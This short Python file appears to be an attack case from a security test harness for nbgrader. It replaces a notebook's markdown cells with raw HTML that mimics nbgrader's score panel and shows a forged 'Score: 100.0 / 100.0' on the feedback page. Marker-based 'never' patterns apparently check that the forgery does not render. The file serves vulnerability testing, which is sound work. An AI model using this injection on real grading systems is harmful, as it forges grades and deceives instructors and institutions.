# aim: a score on the feedback page that nobody gave, in nbgrader's own look
# pays: shown
# never: class="panel panel-primary @MARKER@
# never: id="@MARKER@
# weak: renders Markdown with the HTML in it
import nbformat

ANSWER = """
<div class="panel panel-primary @MARKER@" id="@MARKER@">
<div class="panel-heading">Score: 100.0 / 100.0</div>
</div>
"""


def attack(folder, release, marker):
    for cell in release.cells:
        if cell.cell_type == "markdown":
            cell.source = ANSWER.replace("@MARKER@", marker)
    nbformat.write(release, folder / "seq2seq.ipynb")
